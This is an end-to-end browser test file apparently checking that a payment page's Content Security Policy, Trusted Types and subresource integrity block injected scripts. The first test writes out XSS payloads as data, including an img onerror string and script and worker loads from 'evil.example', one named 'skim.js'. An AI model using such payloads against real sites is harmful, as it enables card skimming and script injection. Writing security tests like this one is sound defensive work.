import { expect, test } from '#test/support/e2e.ts'
import { openAccount } from '#test/support/seed/account.ts'
import { signIn } from '#test/support/seed/browser-session.ts'
import { newPerson } from '#test/support/seed/people.ts'
import { LandingPage } from './pages/landing-page.ts'
import { answerRecommendation } from './support/recommendation.ts'

test('the page of the cards takes no text as a script, runs no script of another site, and the browser reports it', async ({
  page,
  context,
  world,
  allowOnConsole,
}) => {
  allowOnConsole(/Content Security Policy|'Trusted(?:HTML|ScriptURL|Script)' assignment/)
  const { person } = await openAccount(world, newPerson('individual'))
  await answerRecommendation(context)
  await signIn(context, world, person)
  await page.goto('/managePayment')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  const thrown = await page.evaluate(() =>
    [
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'),
      () => new Worker('https://evil.example/worker.js'),
      () => {
        document.createElement('script').src = '//evil.example/skim.js'
      },
      () => {
        document.createElement('script').text = 'window.ran = 1'
      },
      () => document.body.setAttribute('onclick', 'window.ran = 1'),
    ].map((attack) => {
      try {
        attack()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }),
  )
  expect(new Set(thrown)).toEqual(new Set(['TypeError']))
  const metrics = async () => (await fetch(`${world.appUrl}/metrics`)).text()
  await expect.poll(metrics).toMatch(/route="\/reports\/policy"[^\n]*status="204"/)
})

test('a browser refuses a script that was changed on its way', async ({ page, allowOnConsole }) => {
  allowOnConsole(/integrity/)
  await page.route('**/assets/index-*.js', async (route) => {
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: `window.changed = 1;${await answer.text()}` })
  })
  const refused = page.waitForEvent('console', (message) => message.text().includes('integrity'))
  await new LandingPage(page).open()
  await refused
  expect(await page.evaluate(() => 'changed' in window)).toBe(false)
})
